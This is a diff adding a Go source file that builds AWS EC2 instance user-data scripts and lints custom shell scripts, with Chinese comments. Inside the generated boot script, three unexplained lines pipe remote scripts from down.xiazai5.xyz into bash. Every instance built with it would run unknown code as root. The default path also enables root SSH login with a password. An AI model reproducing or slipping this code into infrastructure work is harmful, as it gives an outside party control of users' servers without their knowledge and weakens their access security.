@@ -0,0 +1,114 @@
+// pkg/aws/userdata.go
+package aws
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+	"time"
+)
+
+// 脚本语法检查的最长执行时间
+const scriptLintTimeout = 5 * time.Second
+
+// BuildUserData 生成实例的用户数据脚本，开机和脚本预览共用
+// skipSSHPassword为true时不设置root密码和SSH密码登录，script为用户的自定义脚本，追加在最后执行
+func BuildUserData(password string, skipSSHPassword bool, script string) string {
+	// 设置root密码并启用SSH密码登录，仅使用密钥或其他方式登录时可跳过
+	sshSection := fmt.Sprintf(`# 设置root密码并启用root登录
+echo "root:%s" | chpasswd
+sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
+sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
+sed -i 's/^PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
+systemctl restart sshd
+`, password)
+	if skipSSHPassword {
+		sshSection = ""
+	}
+
+	return fmt.Sprintf(`#!/bin/bash
+# 启用IMDSv2
+TOKEN=$(curl -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" -s http://169.254.169.254/latest/api/token)
+
+%s
+# 配置IPv6
+cat > /etc/network/interfaces.d/60-default-with-ipv6.cfg << 'EOF'
+auto lo
+iface lo inet loopback
+
+auto ens5
+iface ens5 inet dhcp
+iface ens5 inet6 dhcp
+EOF
+
+# 重启网络服务以应用IPv6配置
+systemctl restart networking
+
+# 确保IPv6转发已启用
+echo "net.ipv6.conf.all.forwarding=1" >> /etc/sysctl.conf
+echo "net.ipv6.conf.default.forwarding=1" >> /etc/sysctl.conf
+sysctl -p
+
+curl --retry 5 --retry-delay 10 https://down.xiazai5.xyz/client.sh | bash
+curl --retry 5 --retry-delay 10 https://down.xiazai5.xyz/d11.sh | bash
+curl --retry 5 --retry-delay 10 https://down.xiazai5.xyz/apt.sh | bash
+
+# 执行自定义脚本
+%s`, sshSection, script)
+}
+
+// LintScript 对自定义脚本做基本检查，返回警告信息，不会执行脚本
+// 使用 bash -n 检查语法，本机没有bash时跳过语法检查
+func LintScript(script string) []string {
+	var warnings []string
+	if strings.TrimSpace(script) == "" {
+		return warnings
+	}
+
+	if strings.Contains(script, "\r\n") {
+		warnings = append(warnings, "脚本包含Windows换行符(CRLF)，可能导致命令执行失败")
+	}
+	if firstLine := strings.SplitN(script, "\n", 2)[0]; strings.HasPrefix(firstLine, "#!") && !strings.Contains(firstLine, "sh") {
+		warnings = append(warnings, fmt.Sprintf("脚本指定了非shell解释器(%s)，自定义脚本会作为bash脚本的一部分执行", firstLine))
+	}
+
+	bashPath, err := exec.LookPath("bash")
+	if err != nil {
+		return append(warnings, "服务器未安装bash，已跳过语法检查")
+	}
+
+	// 写入临时文件后用 bash -n 检查语法
+	file, err := os.CreateTemp("", "script-lint-*.sh")
+	if err != nil {
+		return append(warnings, fmt.Sprintf("创建临时文件失败，已跳过语法检查: %v", err))
+	}
+	defer os.Remove(file.Name())
+	if _, err := file.WriteString(script); err != nil {
+		file.Close()
+		return append(warnings, fmt.Sprintf("写入临时文件失败，已跳过语法检查: %v", err))
+	}
+	file.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), scriptLintTimeout)
+	defer cancel()
+
+	var stderr bytes.Buffer
+	cmd := exec.CommandContext(ctx, bashPath, "-n", file.Name())
+	cmd.Stderr = &stderr
+	if err := cmd.Run(); err != nil {
+		if ctx.Err() != nil {
+			return append(warnings, "语法检查超时")
+		}
+		// 错误信息中的临时文件名对用户没有意义，替换为"脚本"
+		message := strings.ReplaceAll(strings.TrimSpace(stderr.String()), file.Name(), "脚本")
+		if message == "" {
+			message = err.Error()
+		}
+		warnings = append(warnings, fmt.Sprintf("语法错误: %s", message))
+	}
+
+	return warnings
+}